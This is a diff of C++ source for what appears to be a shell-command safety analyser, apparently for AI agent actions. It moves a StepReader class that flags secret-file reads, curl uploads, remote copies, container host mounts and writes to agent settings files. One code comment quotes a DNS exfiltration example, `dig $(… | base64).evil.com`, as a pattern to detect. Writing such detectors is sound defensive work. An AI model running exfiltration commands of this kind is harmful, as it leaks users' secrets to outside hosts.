@@ -5,7 +5,6 @@
 #include <cctype>
 #include <utility>
 
-#include "analyse/git_index.h"
 #include "analyse/hosts.h"
 #include "analyse/mode.h"
 #include "analyse/mounts.h"
@@ -13,6 +12,7 @@
 #include "analyse/placed.h"
 #include "analyse/redirected.h"
 #include "analyse/seek.h"
+#include "analyse/step_reader.h"
 #include "base/glob.h"
 #include "content/socat.h"
 
@@ -29,18 +29,47 @@ namespace {
          ref.starts_with("release") || has_pattern(ref);
 }
 
-// Without those that are the words of its subcommand.
-[[nodiscard]] std::string joined(const std::vector<Argument>& operands, std::size_t command_words) {
-  std::string text;
-  for (std::size_t i = command_words; i < operands.size(); ++i) {
-    if (!text.empty()) text += ' ';
-    text += operands[i].text;
+// The file that `@file`, `name=@file` or `name=<file` sends, and `file://file` of the aws client; with `names`, that of
+// `name@file` too. Empty if it is only text, `-` for standard input.
+[[nodiscard]] std::string_view file_in_data(std::string_view text, bool names) {
+  if (text.starts_with('@')) return text.substr(1);
+  for (const std::string_view scheme : {"fileb://", "file://"}) {
+    if (const std::size_t at = text.find(scheme); at == 0 || (at != std::string_view::npos && text[at - 1] == '='))
+      return text.substr(at + scheme.size());
   }
-  return text;
+  if (const std::size_t sign = text.find_first_of("@=:"); names && sign != std::string_view::npos && text[sign] == '@')
+    return text.substr(sign + 1, text.find(';', sign) - sign - 1);
+  const std::size_t equals = text.find('=');
+  if (equals != std::string_view::npos && equals + 1 < text.size() &&
+      (text[equals + 1] == '@' || text[equals + 1] == '<')) {
+    return text.substr(equals + 2, text.find(';', equals) - equals - 2);
+  }
+  return {};
 }
 
-// What an argument means as an effect on a path; false if it is none.
-[[nodiscard]] bool path_kind_of(Role role, EffectKind& kind) {
+// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; any other one is only said.
+[[nodiscard]] bool proves_who_asks(std::string_view header) {
+  static constexpr std::string_view kWords[] = {"auth", "token", "key", "secret", "cookie", "password", "session"};
+  const std::size_t colon = header.find(':');
+  if (colon == std::string_view::npos) return true;  // `user:password` has one, a cookie need not
+  std::string name;
+  for (const char c : header.substr(0, colon)) name += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+  if (name.find_first_of(" /$") != std::string::npos || !header.substr(colon + 1).starts_with(' ')) return true;
+  return std::any_of(std::begin(kWords), std::end(kWords),
+                     [&](std::string_view word) { return name.find(word) != std::string::npos; });
+}
+
+// `file:///etc/x` and sqlite's `file:x?mode=ro` are paths.
+[[nodiscard]] std::string_view without_scheme(std::string_view text) {
+  if (!text.starts_with("file:")) return text;
+  text.remove_prefix(5);
+  if (text.starts_with("//")) text.remove_prefix(std::min(text.find('/', 2), text.size()));
+  return text.substr(0, text.find('?'));
+}
+
+}  // namespace
+
+bool path_kind_of(Role role, EffectKind& kind) {
   switch (role) {
     case Role::read:
     case Role::read_first:
@@ -97,542 +126,251 @@ namespace {
   return false;
 }
 
-// `host:path` and `user@host:path`, as scp and rsync take them: a colon before any slash.
-[[nodiscard]] bool is_remote_path(std::string_view text) {
+bool is_remote_path(std::string_view text) {
   const std::size_t colon = text.find(':');
   return colon != std::string_view::npos && colon > 1 && text.find('/') > colon;
 }
 
-// The file that `@file`, `name=@file` or `name=<file` sends, and `file://file` of the aws client; with `names`, that of
-// `name@file` too. Empty if it is only text, `-` for standard input.
-[[nodiscard]] std::string_view file_in_data(std::string_view text, bool names) {
-  if (text.starts_with('@')) return text.substr(1);
-  for (const std::string_view scheme : {"fileb://", "file://"}) {
-    if (const std::size_t at = text.find(scheme); at == 0 || (at != std::string_view::npos && text[at - 1] == '='))
-      return text.substr(at + scheme.size());
+StepReader::StepReader(const Arguments& arguments, StepContext& context)
+    : arguments_(arguments),
+      fact_(*arguments.fact),
+      context_(context),
+      sources_(context.stdin_sources),
+      sent_(context.stdin_sources),
+      first_effect_(context.out.effects.size()),
+      start_(context.cwd) {
+  if ((arguments.marks & fact_.recursive) != 0) attributes_ |= is_recursive;
+  if ((arguments.marks & fact_.forced) != 0) attributes_ |= is_forced;
+  for (const Argument& argument : arguments.values) all_.push_back(&argument);
+  for (const Argument& argument : arguments.operands) all_.push_back(&argument);
+}
+
+std::uint8_t StepReader::read() {
+  for (const Argument* argument : all_) take_in(*argument);
+  for (const Argument* argument : all_) {
+    if (argument->role == Role::sought) mark_sought_text(argument->text, first_effect_, context_);
   }
-  if (const std::size_t sign = text.find_first_of("@=:"); names && sign != std::string_view::npos && text[sign] == '@')
-    return text.substr(sign + 1, text.find(';', sign) - sign - 1);
-  const std::size_t equals = text.find('=');
-  if (equals != std::string_view::npos && equals + 1 < text.size() &&
-      (text[equals + 1] == '@' || text[equals + 1] == '<')) {
-    return text.substr(equals + 2, text.find(';', equals) - equals - 2);
+  const bool decodes = (arguments_.marks & fact_.decodes) != 0;
+  if (decodes) sources_ |= from_decoder;
+  if (fact_.encodes && !decodes) sources_ |= from_encoder;
+  const bool tells_secret = std::any_of(arguments_.effects.begin(), arguments_.effects.end(), [](const EffectFact& e) {
+    return e.kind == EffectKind::read && (e.attributes & is_shown) != 0;
+  });
+  const bool prints_secrets = fact_.prints_secrets && (arguments_.marks & fact_.quiet) == 0;
+  if ((prints_secrets || tells_secret) && arguments_.command.empty()) sources_ |= from_secret;
+  if (tells_secret) sources_ |= from_teller;
+  if (serves_folder()) {
+    Word folder;
+    folder.text = ".";
+    if (context_.cwd.empty()) folder.kind = Word::Kind::unknown;
+    take_path(EffectKind::read, {Role::read, &folder, folder.text, {}}, folder.text, true, is_recursive);
   }
-  return {};
+  const bool connects =
+      !hosts_.empty() || std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
+                                     [](const EffectFact& e) { return e.kind == EffectKind::connect; });
+  if (connects) sources_ |= from_network;
+  for (const Argument* argument : all_) give_out(*argument);
+  say_effects();
+  return sources_;
 }
 
-// Another host is deployed to: what stands in these folders there is no system's.
-[[nodiscard]] bool is_deployed_to(std::string_view path) {
-  static constexpr std::string_view kFolders[] = {"/srv", "/opt", "/var/www"};
-  return std::any_of(std::begin(kFolders), std::end(kFolders), [&](std::string_view f) { return is_below(path, f); });
-}
-
-// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; any other one is only said.
-[[nodiscard]] bool proves_who_asks(std::string_view header) {
-  static constexpr std::string_view kWords[] = {"auth", "token", "key", "secret", "cookie", "password", "session"};
-  const std::size_t colon = header.find(':');
-  if (colon == std::string_view::npos) return true;  // `user:password` has one, a cookie need not
-  std::string name;
-  for (const char c : header.substr(0, colon)) name += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
-  if (name.find_first_of(" /$") != std::string::npos || !header.substr(colon + 1).starts_with(' ')) return true;
-  return std::any_of(std::begin(kWords), std::end(kWords),
-                     [&](std::string_view word) { return name.find(word) != std::string::npos; });
-}
-
-// `file:///etc/x` and sqlite's `file:x?mode=ro` are paths.
-[[nodiscard]] std::string_view without_scheme(std::string_view text) {
-  if (!text.starts_with("file:")) return text;
-  text.remove_prefix(5);
-  if (text.starts_with("//")) text.remove_prefix(std::min(text.find('/', 2), text.size()));
-  return text.substr(0, text.find('?'));
-}
-
-// Reads the sorted arguments of one step in two rounds: what comes in, then what goes out and carries it.
-class StepReader {
- public:
-  StepReader(const Arguments& arguments, StepContext& context)
-      : arguments_(arguments),
-        fact_(*arguments.fact),
-        context_(context),
-        sources_(context.stdin_sources),
-        sent_(context.stdin_sources),
-        first_effect_(context.out.effects.size()),
-        start_(context.cwd) {
-    if ((arguments.marks & fact_.recursive) != 0) attributes_ |= is_recursive;
-    if ((arguments.marks & fact_.forced) != 0) attributes_ |= is_forced;
-    for (const Argument& argument : arguments.values) all_.push_back(&argument);
-    for (const Argument& argument : arguments.operands) all_.push_back(&argument);
-  }
-
-  std::uint8_t read() {
-    for (const Argument* argument : all_) take_in(*argument);
-    for (const Argument* argument : all_) {
-      if (argument->role == Role::sought) mark_sought_text(argument->text, first_effect_, context_);
+void StepReader::take_in(const Argument& argument) {
+  const bool is_header = argument.role == Role::header;
+  if (is_header && names_other_host(argument.text)) is_redirected_ = true;
+  sources_ |= argument.word->sources;
+  if (!is_header || !proves_who_asks(argument.text)) sent_ |= argument.word->sources;
+  switch (argument.role) {
+    case Role::folder:
+      if (fact_.name == "cd" || fact_.name == "pushd") break;
+      context_.cwd = argument.word->is_known()
+                         ? resolve_path(argument.text, context_.cwd, false, true, context_.world).path
+                         : std::string();
+      break;
+    case Role::url:
+    case Role::saved_url:
+    case Role::host:
+      note_host(argument);
+      break;
+    case Role::address:
+      take_address(argument);
+      break;
+    case Role::version:
+      if (argument.word->is_known() &&
+          (resolve_path(argument.text, context_.cwd, false, true, context_.world).classes & path_secret) != 0)
+        take_path(EffectKind::read, argument, argument.text, false, is_shown);
+      break;
+    case Role::ref:
+      has_ref_ = true;
+      refs_ += (refs_.empty() ? "" : " ") + argument.text;
+      has_protected_ref_ |= !argument.word->is_known() || names_protected_branch(argument.text);
+      break;
+    case Role::mode:
+      has_mode_ = true;
+      is_world_writable_ = is_world_writable(argument.text);
+      gives_rights_ = gives_owners_rights(argument.text);
+      break;
+    case Role::data:
+    case Role::field: {
+      const std::string_view file = file_in_data(argument.text, argument.role == Role::field);
+      sends_file_ |= reads_file(argument.word->step);  // `-d "$(cat x)"`
+      if (!file.empty() && file != "-") take_path(EffectKind::read, argument, file, true);
+      // curl takes several for one field: `-F files=@a,b`.
+      if (const std::size_t comma = file.find(','); comma != std::string_view::npos)
+        take_path(EffectKind::read, argument, file.substr(0, comma), true);
+      break;
     }
-    const bool decodes = (arguments_.marks & fact_.decodes) != 0;
-    if (decodes) sources_ |= from_decoder;
-    if (fact_.encodes && !decodes) sources_ |= from_encoder;
-    const bool tells_secret =
-        std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
-                    [](const EffectFact& e) { return e.kind == EffectKind::read && (e.attributes & is_shown) != 0; });
-    const bool prints_secrets = fact_.prints_secrets && (arguments_.marks & fact_.quiet) == 0;
-    if ((prints_secrets || tells_secret) && arguments_.command.empty()) sources_ |= from_secret;
-    if (tells_secret) sources_ |= from_teller;
-    if (serves_folder()) {
-      Word folder;
-      folder.text = ".";
-      if (context_.cwd.empty()) folder.kind = Word::Kind::unknown;
-      take_path(EffectKind::read, {Role::read, &folder, folder.text, {}}, folder.text, true, is_recursive);
+    case Role::blob: {
+      const std::size_t colon = argument.text.find(':');
+      if (colon != std::string::npos)
+        take_path(EffectKind::read, argument, std::string_view(argument.text).substr(colon + 1), false, is_shown);
+      break;
     }
-    const bool connects =
-        !hosts_.empty() || std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
-                                       [](const EffectFact& e) { return e.kind == EffectKind::connect; });
-    if (connects) sources_ |= from_network;
-    for (const Argument* argument : all_) give_out(*argument);
-    say_effects();
-    return sources_;
-  }
-
- private:
-  void take_in(const Argument& argument) {
-    const bool is_header = argument.role == Role::header;
-    if (is_header && names_other_host(argument.text)) is_redirected_ = true;
-    sources_ |= argument.word->sources;
-    if (!is_header || !proves_who_asks(argument.text)) sent_ |= argument.word->sources;
-    switch (argument.role) {
-      case Role::folder:
-        if (fact_.name == "cd" || fact_.name == "pushd") break;
-        context_.cwd = argument.word->is_known()
-                           ? resolve_path(argument.text, context_.cwd, false, true, context_.world).path
-                           : std::string();
-        break;
-      case Role::url:
-      case Role::saved_url:
-      case Role::host:
+    case Role::mount:
+      take_mount(argument);
+      break;
+    case Role::send:
+    case Role::stage:
+    case Role::read:
+    case Role::read_first:
+    case Role::show:
+    case Role::move: {
+      if (argument.role == Role::send && argument.word->is_known() && is_remote_path(argument.text)) {
         note_host(argument);
         break;
-      case Role::address:
-        take_address(argument);
-        break;
-      case Role::version:
-        if (argument.word->is_known() &&
-            (resolve_path(argument.text, context_.cwd, false, true, context_.world).classes & path_secret) != 0)
-          take_path(EffectKind::read, argument, argument.text, false, is_shown);
-        break;
-      case Role::ref:
-        has_ref_ = true;
-        refs_ += (refs_.empty() ? "" : " ") + argument.text;
-        has_protected_ref_ |= !argument.word->is_known() || names_protected_branch(argument.text);
-        break;
-      case Role::mode:
-        has_mode_ = true;
-        is_world_writable_ = is_world_writable(argument.text);
-        gives_rights_ = gives_owners_rights(argument.text);
-        break;
-      case Role::data:
-      case Role::field: {
-        const std::string_view file = file_in_data(argument.text, argument.role == Role::field);
-        sends_file_ |= reads_file(argument.word->step);  // `-d "$(cat x)"`
-        if (!file.empty() && file != "-") take_path(EffectKind::read, argument, file, true);
-        // curl takes several for one field: `-F files=@a,b`.
-        if (const std::size_t comma = file.find(','); comma != std::string_view::npos)
-          take_path(EffectKind::read, argument, file.substr(0, comma), true);
-        break;
       }
-      case Role::blob: {
-        const std::size_t colon = argument.text.find(':');
-        if (colon != std::string::npos)
-          take_path(EffectKind::read, argument, std::string_view(argument.text).substr(colon + 1), false, is_shown);
-        break;
+      if (argument.flag == "-T" || argument.flag == "--upload-file") {
+        // curl has patterns of its own: `-T '{a,b}'`.
+        if (take_listed(argument)) break;
       }
-      case Role::mount:
-        take_mount(argument);
-        break;
-      case Role::send:
-      case Role::stage:
-      case Role::read:
-      case Role::read_first:
-      case Role::show:
-      case Role::move: {
-        if (argument.role == Role::send && argument.word->is_known() && is_remote_path(argument.text)) {
-          note_host(argument);
-          break;
-        }
-        if (argument.flag == "-T" || argument.flag == "--upload-file") {
-          // curl has patterns of its own: `-T '{a,b}'`.
-          if (take_listed(argument)) break;
-        }
-        EffectKind kind{};
-        if (argument.role == Role::move && argument.text.starts_with("/dev/"))
-          replace_device(EffectKind::move, argument);
-        if (path_kind_of(argument.role, kind)) {
-          take_path(kind, argument, argument.text, argument.role == Role::send,
-                    argument.role == Role::show ? static_cast<std::uint16_t>(is_shown) : std::uint16_t{0});
-        }
-        break;
+      EffectKind kind{};
+      if (argument.role == Role::move && argument.text.starts_with("/dev/")) replace_device(EffectKind::move, argument);
+      if (path_kind_of(argument.role, kind)) {
+        take_path(kind, argument, argument.text, argument.role == Role::send,
+                  argument.role == Role::show ? static_cast<std::uint16_t>(is_shown) : std::uint16_t{0});
       }
-      case Role::script:
-        // A key is no script: the shell's complaints tell what stands in it.
-        if (argument.word->is_known() &&
-            is_kept_secret(resolve_path(argument.text, context_.cwd, false, true, context_.world).classes))
-          take_path(EffectKind::read, argument, argument.text, false, is_shown);
-        break;
-      case Role::text:
-      case Role::sought:
-      case Role::expression:
-      case Role::container:
-      case Role::words:
-      case Role::write:
-      case Role::write_first:
-      case Role::append:
-      case Role::create:
-      case Role::remove:
-      case Role::permission:
-      case Role::shell:
-      case Role::code:
-      case Role::command:
-      case Role::device:
-      case Role::setting:
-      case Role::line:
-      case Role::over_there:
-        break;
-      case Role::header:
-        // `curl -H @file`: a file of headers.
-        if (argument.text.starts_with('@') && argument.text != "@-")
-          take_path(EffectKind::read, argument, std::string_view(argument.text).substr(1), true);
-        break;
+      break;
     }
+    case Role::script:
+      // A key is no script: the shell's complaints tell what stands in it.
+      if (argument.word->is_known() &&
+          is_kept_secret(resolve_path(argument.text, context_.cwd, false, true, context_.world).classes))
+        take_path(EffectKind::read, argument, argument.text, false, is_shown);
+      break;
+    case Role::text:
+    case Role::sought:
+    case Role::expression:
+    case Role::container:
+    case Role::words:
+    case Role::write:
+    case Role::write_first:
+    case Role::append:
+    case Role::create:
+    case Role::remove:
+    case Role::permission:
+    case Role::shell:
+    case Role::code:
+    case Role::command:
+    case Role::device:
+    case Role::setting:
+    case Role::line:
+    case Role::over_there:
+      break;
+    case Role::header:
+      // `curl -H @file`: a file of headers.
+      if (argument.text.starts_with('@') && argument.text != "@-")
+        take_path(EffectKind::read, argument, std::string_view(argument.text).substr(1), true);
+      break;
   }
+}
 
-  bool take_listed(const Argument& argument) {
-    const std::size_t open = argument.text.find('{');
-    const std::size_t close = argument.text.find('}', std::min(open, argument.text.size()));
-    if (!argument.word->is_known() || close == std::string::npos) return false;
-    for (std::size_t at = open + 1; at <= close;) {
-      const std::size_t end = std::min(argument.text.find(',', at), close);
-      const std::string path =
-          argument.text.substr(0, open) + argument.text.substr(at, end - at) + argument.text.substr(close + 1);
-      take_path(EffectKind::read, argument, path, true);
-      at = end + 1;
-    }
-    return true;
+bool StepReader::take_listed(const Argument& argument) {
+  const std::size_t open = argument.text.find('{');
+  const std::size_t close = argument.text.find('}', std::min(open, argument.text.size()));
+  if (!argument.word->is_known() || close == std::string::npos) return false;
+  for (std::size_t at = open + 1; at <= close;) {
+    const std::size_t end = std::min(argument.text.find(',', at), close);
+    const std::string path =
+        argument.text.substr(0, open) + argument.text.substr(at, end - at) + argument.text.substr(close + 1);
+    take_path(EffectKind::read, argument, path, true);
+    at = end + 1;
   }
+  return true;
+}
 
-  void take_address(const Argument& argument) {
-    const SocatAddress address = read_socat_address(argument.text);
-    Argument inner = argument;
-    inner.text = address.value;
-    if (address.kind == SocatAddress::Kind::host) note_host(inner);
-    if (address.kind == SocatAddress::Kind::file) take_path(EffectKind::read, inner, inner.text, true);
-  }
+void StepReader::take_address(const Argument& argument) {
+  const SocatAddress address = read_socat_address(argument.text);
+  Argument inner = argument;
+  inner.text = address.value;
+  if (address.kind == SocatAddress::Kind::host) note_host(inner);
+  if (address.kind == SocatAddress::Kind::file) take_path(EffectKind::read, inner, inner.text, true);
+}
 
-  // What a container sees of the host is read; what lets it out is said of the container.
-  void take_mount(const Argument& argument) {
-    const Mount mount = read_mount(argument.text);
-    if (mount.source.empty()) return;
-    const std::string path = resolve_path(mount.source, start_, false, true, context_.world).path;
-    if (gives_host_rights(path, mount.is_read_only))
-      return add_effect(EffectKind::container, Action::host_rights, path, 0, context_);
-    take_path(EffectKind::read, argument, mount.source, false);
-  }
+void StepReader::take_mount(const Argument& argument) {
+  const Mount mount = read_mount(argument.text);
+  if (mount.source.empty()) return;
+  const std::string path = resolve_path(mount.source, start_, false, true, context_.world).path;
+  if (gives_host_rights(path, mount.is_read_only))
+    return add_effect(EffectKind::container, Action::host_rights, path, 0, context_);
+  take_path(EffectKind::read, argument, mount.source, false);
+}
 
-  void note_host(const Argument& argument) {
-    if (argument.text.starts_with("file:"))
-      return take_path(EffectKind::read, argument, without_scheme(argument.text), false, is_shown);
-    constexpr std::size_t kMaxHosts = 64;
-    if (hosts_.size() >= kMaxHosts) return;
-    // `https://h.example/$ID`: the host is known although the rest is not.
-    const std::string host = host_of(argument.text);
-    const bool is_known = argument.word->is_known() ||
-                          (argument.text.find("://") != std::string::npos &&
-                           host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
-                           argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
-    const std::string& name = is_known ? host : argument.text;
-    // `dig $(… | base64).evil.com`: the name itself is the message.
-    if ((argument.word->sources & from_encoder) != 0 && (argument.role == Role::host || !is_known))
-      has_encoded_name_ = true;
-    if (has_user_info(argument.text)) is_redirected_ = true;
-    if (!name.empty() && std::find(hosts_.begin(), hosts_.end(), name) == hosts_.end()) hosts_.push_back(name);
-  }
+void StepReader::note_host(const Argument& argument) {
+  if (argument.text.starts_with("file:"))
+    return take_path(EffectKind::read, argument, without_scheme(argument.text), false, is_shown);
+  constexpr std::size_t kMaxHosts = 64;
+  if (hosts_.size() >= kMaxHosts) return;
+  // `https://h.example/$ID`: the host is known although the rest is not.
+  const std::string host = host_of(argument.text);
+  const bool is_known = argument.word->is_known() ||
+                        (argument.text.find("://") != std::string::npos &&
+                         host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
+                         argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
+  const std::string& name = is_known ? host : argument.text;
+  // `dig $(… | base64).evil.com`: the name itself is the message.
+  if ((argument.word->sources & from_encoder) != 0 && (argument.role == Role::host || !is_known))
+    has_encoded_name_ = true;
+  if (has_user_info(argument.text)) is_redirected_ = true;
+  if (!name.empty() && std::find(hosts_.begin(), hosts_.end(), name) == hosts_.end()) hosts_.push_back(name);
+}
 
-  void take_path(EffectKind kind, const Argument& argument, std::string_view text, bool is_sent,
-                 std::uint16_t extra = 0) {
-    if (text == "-" && kind == EffectKind::read) return;  // standard input
-    text = without_scheme(text);
-    const std::size_t before = context_.out.effects.size();
-    const std::string folder = argument.role == Role::read_first ? std::exchange(context_.cwd, start_) : context_.cwd;
-    add_path_effect(kind, Action::none, *argument.word, text, attributes_ | extra, 0, context_);
-    context_.cwd = folder;
-    if (context_.out.effects.size() == before) return;
-    const Effect& effect = context_.out.effects.back();
-    std::uint8_t found = 0;
-    if ((effect.classes & path_secret) != 0) found |= from_secret;
-    if ((effect.classes & path_credential_store) != 0) found |= from_secret | from_key;
-    const auto written = context_.scope.written.find(effect.object);
-    if (written != context_.scope.written.end()) found |= written->second;
-    // A whole home holds its keys.
-    if ((effect.classes & (path_home | path_root)) != 0 && (effect.attributes & (is_recursive | is_shown)) != 0)
-      found |= from_secret | from_key;
-    const bool is_read_whole =
-        kind == EffectKind::read && (effect.attributes & (is_recursive | is_shown)) == is_recursive;
-    if (is_read_whole && (effect.classes & path_cwd) != 0) found |= from_project;
-    found |= sources_below(effect.object, context_.scope, context_.world);
-    sources_ |= found;
-    if (is_sent) sent_ |= found;
-    sends_file_ |= is_sent && kind == EffectKind::read;
-    if (argument.role == Role::stage) context_.scope.staged |= found;
-  }
+void StepReader::take_path(EffectKind kind, const Argument& argument, std::string_view text, bool is_sent,
+                           std::uint16_t extra) {
+  if (text == "-" && kind == EffectKind::read) return;  // standard input
+  text = without_scheme(text);
+  const std::size_t before = context_.out.effects.size();
+  const std::string folder = argument.role == Role::read_first ? std::exchange(context_.cwd, start_) : context_.cwd;
+  add_path_effect(kind, Action::none, *argument.word, text, attributes_ | extra, 0, context_);
+  context_.cwd = folder;
+  if (context_.out.effects.size() == before) return;
+  const Effect& effect = context_.out.effects.back();
+  std::uint8_t found = 0;
+  if ((effect.classes & path_secret) != 0) found |= from_secret;
+  if ((effect.classes & path_credential_store) != 0) found |= from_secret | from_key;
+  const auto written = context_.scope.written.find(effect.object);
+  if (written != context_.scope.written.end()) found |= written->second;
+  // A whole home holds its keys.
+  if ((effect.classes & (path_home | path_root)) != 0 && (effect.attributes & (is_recursive | is_shown)) != 0)
+    found |= from_secret | from_key;
+  const bool is_read_whole =
+      kind == EffectKind::read && (effect.attributes & (is_recursive | is_shown)) == is_recursive;
+  if (is_read_whole && (effect.classes & path_cwd) != 0) found |= from_project;
+  found |= sources_below(effect.object, context_.scope, context_.world);
+  sources_ |= found;
+  if (is_sent) sent_ |= found;
+  sends_file_ |= is_sent && kind == EffectKind::read;
+  if (argument.role == Role::stage) context_.scope.staged |= found;
+}
 
-  [[nodiscard]] bool reads_file(int step) const {
-    return step >= 0 &&
-           std::any_of(context_.out.effects.begin(), context_.out.effects.end(),
-                       [&](const Effect& effect) { return effect.step == step && effect.kind == EffectKind::read; });
-  }
+bool StepReader::reads_file(int step) const {
+  return step >= 0 && std::any_of(context_.out.effects.begin(), context_.out.effects.end(), [&](const Effect& effect) {
+           return effect.step == step && effect.kind == EffectKind::read;
+         });
+}
 
-  // `https://h/a/x.sh?y` is saved as x.sh.
-  void save(const Argument& argument) {
-    std::string_view name = argument.text;
-    name = name.substr(0, name.find_first_of("?#"));
-    if (const std::size_t scheme = name.find("://"); scheme != std::string_view::npos) name.remove_prefix(scheme + 3);
-    const std::size_t slash = name.rfind('/');
-    if (slash == std::string_view::npos || slash + 1 == name.size() || !argument.word->is_known()) return;
-    add_path_effect(EffectKind::create, Action::none, *argument.word, name.substr(slash + 1), 0, sources_, context_);
-  }
-
-  void give_out(const Argument& argument) {
-    if (argument.role == Role::saved_url) return save(argument);
-    if (argument.role == Role::address) {
-      const SocatAddress address = read_socat_address(argument.text);
-      if (address.kind == SocatAddress::Kind::created)
-        add_path_effect(EffectKind::write, Action::none, *argument.word, address.value, 0, sources_, context_);
-      return;
-    }
-    EffectKind kind{};
-    // What is no mode is a path: the mode was forgotten, or a pattern stands for many words.
-    if (argument.role == Role::mode && argument.flag.empty() && !is_mode(argument.text))
-      return add_path_effect(EffectKind::permission, Action::mode, *argument.word, argument.text, attributes_, 0,
-                             context_);
-    if (!path_kind_of(argument.role, kind) || kind == EffectKind::read || kind == EffectKind::move) return;
-    if ((argument.role == Role::write || argument.role == Role::remove) && argument.word->is_known() &&
-        is_remote_path(argument.text) && sends()) {
-      note_host(argument);
-      return act_over_there(kind, argument);
-    }
-    if (argument.text == "-" && kind == EffectKind::write) return;  // standard output
-    if (kind == EffectKind::write && argument.text.starts_with("/dev/") && argument.word->is_known() &&
-        (fact_.places == Places::move || fact_.places == Places::link)) {
-      replace_device(EffectKind::write, argument);
-    }
-    Action action = Action::none;
-    if (argument.role == Role::device) action = Action::overwrite;
-    if (kind == EffectKind::permission && gives_rights_)
-      add_effect(EffectKind::privilege, Action::none, argument.text, 0, context_);
-    if (kind == EffectKind::permission)
-      action = is_world_writable_ ? Action::world_writable : has_mode_ ? Action::mode : Action::owner;
-    // `cp -r x ~` fills the folder; only who enumerates what is in it overwrites all of it.
-    const auto attributes =
-        static_cast<std::uint16_t>(kind == EffectKind::write ? attributes_ & ~is_recursive : attributes_);
-    const std::string folder = argument.role == Role::write_first ? std::exchange(context_.cwd, start_) : context_.cwd;
-    add_path_effect(kind, action, *argument.word, argument.text, attributes, sources_, context_);
-    if (kind == EffectKind::write && fact_.places != Places::nothing && argument.word->is_known())
-      place_below(argument);
-    context_.cwd = folder;
-  }
-
-  // `cp -r x/.git .` writes ./.git: where the target is a folder, the names of what comes count as well.
-  void place_below(const Argument& folder) {
-    constexpr std::uint32_t kTelling = path_persistence | path_agent_config | path_pawl_own | path_git_internal;
-    for (const Argument& source : arguments_.operands) {
-      if ((source.role != Role::read && source.role != Role::move) || source.word->kind == Word::Kind::unknown)
-        continue;
-      std::string_view name = source.text;
-      while (name.ends_with('/')) name.remove_suffix(1);
-      name.remove_prefix(name.rfind('/') + 1);
-      if (name.empty() || name == "." || name == "..") continue;
-      const std::string path = folder.text + "/" + std::string(name);
-      const std::uint32_t before = context_.out.effects.empty() ? 0 : context_.out.effects.back().classes;
-      const std::uint32_t classes = resolve_path(path, context_.cwd, false, true, context_.world).classes;
-      if ((classes & ~before & kTelling) != 0)
-        add_path_effect(EffectKind::write, Action::none, *folder.word, path, 0, sources_, context_);
-    }
-  }
-
-  // `mv x /dev/null` puts a file in the place of the device.
-  void replace_device(EffectKind kind, const Argument& argument) {
-    add_effect(kind, Action::none, argument.text, 0, context_);
-    context_.out.effects.back().classes = path_system;
-  }
-
-  // `scp x host:/etc/y`
-  void act_over_there(EffectKind kind, const Argument& argument) {
-    const std::string_view path = std::string_view(argument.text).substr(argument.text.find(':') + 1);
-    const bool deletes = kind == EffectKind::remove;
-    if (!path.starts_with('/') && !deletes) return;
-    ResolvedPath resolved = resolve_path(path, {}, false, true, context_.world);
-    if (is_deployed_to(resolved.path)) resolved.classes = path_elsewhere;
-    add_effect(kind, Action::none, resolved.path.empty() ? std::string(path) : resolved.path,
-               static_cast<std::uint16_t>(deletes ? is_remote | is_recursive : is_remote), context_);
-    context_.out.effects.back().classes = resolved.classes;
-  }
-
-  // `python -m http.server`: what stands in the folder that it works in goes out.
-  [[nodiscard]] bool serves_folder() const {
-    return std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
-                       [](const EffectFact& e) { return e.kind == EffectKind::read && e.attributes == 0; });
-  }
-
-  [[nodiscard]] bool sends() const {
-    return std::any_of(all_.begin(), all_.end(), [](const Argument* a) { return a->role == Role::send; });
-  }
-
-  // What a program does to paths is said of the paths that its operands named already; false if there are none.
-  bool add_to_paths(const EffectFact& item) {
-    if (item.kind > EffectKind::permission) return false;
-    bool is_said = false;
-    for (std::size_t i = first_effect_; i < context_.out.effects.size(); ++i) {
-      Effect& effect = context_.out.effects[i];
-      if (effect.kind != item.kind || effect.classes == 0) continue;
-      effect.attributes |= item.attributes;
-      const bool is_throw_away = (effect.classes & path_temp) != 0 && (effect.classes & path_secret) == 0;
-      if ((effect.attributes & is_irreversible) != 0 && (effect.attributes & is_recursive) == 0 &&
-          (is_throw_away || is_kept_by_git(effect.object)))
-        effect.attributes &= static_cast<std::uint16_t>(~is_irreversible);
-      if (item.action != Action::none) effect.action = item.action;
-      is_said = true;
-    }
-    return is_said;
-  }
-
-  [[nodiscard]] bool is_kept_by_git(const std::string& path) const {
-    return !context_.is_remote && may_look_at_index(context_.world) &&
-           is_as_in_index(path, context_.world.project, context_.world.files);
-  }
-
-  // `git restore FILE` where the file is as git has it: there is nothing to discard.
-  [[nodiscard]] bool discards_nothing() const {
-    if (arguments_.name != "git restore" && arguments_.name != "git checkout") return false;
-    if (context_.step < 0) return false;
-    // `--staged` takes the index back too, and what stands there is nowhere else.
-    const std::vector<Word>& argv = context_.out.steps[static_cast<std::size_t>(context_.step)].argv;
-    const bool is_staged = std::any_of(argv.begin(), argv.end(), [](const Word& word) {
-      const std::string_view text = word.text;
-      return text.starts_with("--st") ||
-             (text.starts_with('-') && !text.starts_with("--") && text.find('S') != text.npos);
-    });
-    if (is_staged) return false;
-    const std::vector<Argument>& names = arguments_.operands;
-    return !names.empty() && std::all_of(names.begin(), names.end(), [&](const Argument& name) {
-      return name.word->is_known() &&
-             is_kept_by_git(resolve_path(name.text, context_.cwd, false, true, context_.world).path);
-    });
-  }
-
-  // `git checkout REV .claude/settings.json`: a name among the refs that is a guarded file is written.
-  void say_discarded_settings() {
-    for (const Argument& operand : arguments_.operands) {
-      if ((operand.role != Role::ref && operand.role != Role::text) || !operand.word->is_known()) continue;
-      const ResolvedPath path = resolve_path(operand.text, context_.cwd, false, true, context_.world);
-      if ((path.classes & (path_agent_config | path_pawl_own)) != 0)
-        add_path_effect(EffectKind::write, Action::none, *operand.word, operand.text, 0, 0, context_);
-    }
-  }
-
